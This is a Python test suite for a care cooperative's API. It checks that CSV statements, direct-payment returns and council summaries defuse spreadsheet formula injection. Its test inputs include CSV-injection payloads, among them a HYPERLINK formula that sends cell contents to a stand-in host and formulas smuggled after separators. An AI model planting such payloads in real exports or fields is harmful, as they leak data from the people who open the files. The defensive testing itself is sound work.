"""CSV answers open safely in a spreadsheet: no cell runs as a formula, in any locale."""

import csv
import io
import re
import uuid
from datetime import timedelta

import httpx
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy.ext.asyncio import AsyncSession

from app.core.clock import FrozenClock
from app.core.csv_answer import BYTE_ORDER_MARK, csv_text, safe_cell
from app.ledger import service as ledger
from app.ledger.models import TransactionKind
from tests.factories import (
    CARDIFF,
    contribute,
    create_coop,
    create_provider,
    member_id_of,
    platform_admin,
    register_person,
    set_direct_payment,
)

# What an attacker names a provider or writes as a payment reference, hoping an officer or
# a holder opens the download in Excel: a separator then a formula, a link that leaks the
# sheet, and each character that starts a formula.
HOSTILE = [
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x|=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"Invoice")',
    "+44 1234",
    "-2+3",
    "@SUM(1+1)",
    " =1+1",
    "x\n=1+1",
]
WELSH = "Taliad Ŵyn, Llŷn"
# A formula starts a cell, perhaps after spaces or line breaks.
SEPARATORS = [",", ";", "\t", "|"]


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet could run `cell`: past the white space some strip (tabs and
    carriage returns included, which is why they count as triggers) and any quotes, it starts
    with `=`, `+`, `-` or `@`. A piece that begins with the file's own line end followed by
    text or the `'` that marks text runs nothing."""
    return re.match(r"[=+\-@]", cell.lstrip(' \t\r\n"')) is not None


def split_like_a_spreadsheet(text: str, separator: str) -> list[str]:
    """The cells a spreadsheet reads from `text` when it splits on `separator`: a quote opens
    a quoted cell only at the start of a cell; a line break ends a row outside quotes."""
    cells: list[str] = []
    ends = (separator, "\r", "\n")
    i, n = 0, len(text)
    while True:
        buf: list[str] = []
        j = i
        if j < n and text[j] == '"':
            j += 1
            while j < n:
                if text[j] == '"':
                    if text[j + 1 : j + 2] == '"':
                        buf.append('"')
                        j += 2
                        continue
                    j += 1
                    break
                buf.append(text[j])
                j += 1
        while j < n and text[j] not in ends:
            buf.append(text[j])
            j += 1
        cells.append("".join(buf))
        if j >= n:
            return cells
        i = j + 1


def cells_under_every_separator(text: str) -> list[str]:
    """Every cell a spreadsheet could see in `text`, whichever separator its locale uses."""
    return [cell for sep in SEPARATORS for cell in split_like_a_spreadsheet(text, sep)]


def assert_safe(raw: bytes) -> list[list[str]]:
    """The answer starts with a byte-order mark, quotes every cell, and defuses formulas."""
    assert raw.startswith(BYTE_ORDER_MARK.encode("utf-8"))
    text = raw.decode("utf-8-sig")
    for line in text.split("\r\n")[:-1]:
        assert line.startswith('"'), line
    for cell in cells_under_every_separator(text):
        assert not runs_as_formula(cell), cell
    return list(csv.reader(io.StringIO(text)))


class TestSafeCell:
    @pytest.mark.parametrize(
        ("text", "cell"),
        [
            ("=1+1", "'=1+1"),
            ("x;=1+1", "'x;'=1+1"),
            ("x, =1+1", "'x,' =1+1"),
            ("x\t@A1", "'x\t'@A1"),
            ('x;"=1+1', "'x;'\"=1+1"),
            ("x\n-1+1", "'x\n'-1+1"),
            ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ],
    )
    def test_a_formula_looking_text_is_defused_before_each_part(self, text: str, cell: str) -> None:
        assert safe_cell(text) == cell

    @pytest.mark.parametrize(
        "value", ["Gofal Ŵyn", "2026-03-01", "8.0", "-12.5", "Rent - March", "a=b", "x+y"]
    )
    def test_plain_text_and_numbers_are_kept(self, value: str) -> None:
        assert safe_cell(value) == value

    def test_numbers_stay_numbers(self) -> None:
        assert safe_cell(-500) == -500
        assert safe_cell(None) == ""
        assert safe_cell(True) == "true"

    @given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=4), max_size=4))
    @example([["", ";"], ['\r\n0"']])  # a row's line end, then the next row's marked cell
    @example([["", "|"], ["0"]])  # a row's line end, then plain text
    @example([["x;=1+1", "\t-2", "a|@b"]])
    def test_no_separator_exposes_a_formula(self, rows: list[list[str]]) -> None:
        text = csv_text(rows)
        for cell in cells_under_every_separator(text):
            assert not runs_as_formula(cell), (rows, cell)
        read_back = list(csv.reader(io.StringIO(text, newline="")))
        assert read_back == [[str(safe_cell(cell)) for cell in row] for row in rows]


class TestCsvAnswers:
    async def test_a_statement_defuses_hostile_references_and_keeps_welsh(
        self, client: httpx.AsyncClient
    ) -> None:
        holder = await register_person(client)
        await set_direct_payment(client, holder, weekly_amount_pence=1_000_000)
        coop_id = await create_coop(client, holder)
        for reference in [*HOSTILE, WELSH]:
            response = await contribute(
                client, coop_id, holder, amount_pence=100, reference=reference
            )
            assert response.status_code == 201, response.text
        member_id = await member_id_of(client, coop_id, holder)
        response = await client.get(
            f"/api/v1/coops/{coop_id}/members/{member_id}/statement",
            params={"format": "csv"},
            headers=holder.headers,
        )
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        rows = assert_safe(response.content)
        memos = [row[5] for row in rows[2:-1]]
        # Each hostile reference (trimmed when taken) comes back whole, with quotes added.
        defused = sorted(m for m in memos if m != WELSH)
        assert all(m.startswith("'") for m in defused)
        assert sorted(m.replace("'", "") for m in defused) == sorted(r.strip() for r in HOSTILE)
        assert WELSH in memos
        assert [row[3] for row in rows[2:-1]] == ["100"] * (len(HOSTILE) + 1)

    async def test_a_dp_return_defuses_hostile_provider_names(
        self, client: httpx.AsyncClient, session: AsyncSession, clock: FrozenClock
    ) -> None:
        holder = await register_person(client)
        await set_direct_payment(client, holder)
        coop_id = await create_coop(client, holder)
        member_id = await member_id_of(client, coop_id, holder)
        assert (await contribute(client, coop_id, holder, amount_pence=50_000)).status_code == 201
        staff = await register_person(client)
        names = ["x;=1+1", '=HYPERLINK("http://evil.example","x")']
        for name in names:
            provider = await create_provider(client, staff, name=name)
            provider_id = uuid.UUID(provider["id"])
            at = clock.now() + timedelta(days=1)
            await ledger.open_provider_account(
                session, coop_id=coop_id, provider_id=provider_id, now=at
            )
            await ledger.post(
                session,
                None,
                coop_id=coop_id,
                kind=TransactionKind.invoice_approval,
                memo="Invoice",
                lines=[
                    ledger.Line(ledger.member_account(member_id), -1_000),
                    ledger.Line(ledger.provider_account(provider_id), 1_000),
                ],
                now=at,
            )
            await session.commit()
        response = await client.get(
            f"/api/v1/coops/{coop_id}/members/{member_id}/dp-return",
            params={"period": "2026-Q1", "format": "csv"},
            headers=holder.headers,
        )
        assert response.status_code == 200, response.text
        rows = assert_safe(response.content)
        care = sorted(row[3] for row in rows if row[0] == "care_bought")
        assert all(name.startswith("'") for name in care)
        assert sorted(name.replace("'", "") for name in care) == sorted(names)

    async def test_a_council_summary_is_quoted_with_a_byte_order_mark(
        self, client: httpx.AsyncClient, session: AsyncSession
    ) -> None:
        admin = await platform_admin(client, session)
        response = await client.get(
            f"/api/v1/la/areas/{CARDIFF}/summary",
            params={"format": "csv"},
            headers=admin.headers,
        )
        assert response.status_code == 200, response.text
        rows = assert_safe(response.content)
        assert rows[0] == ["section", "key", "field", "value", "suppressed"]
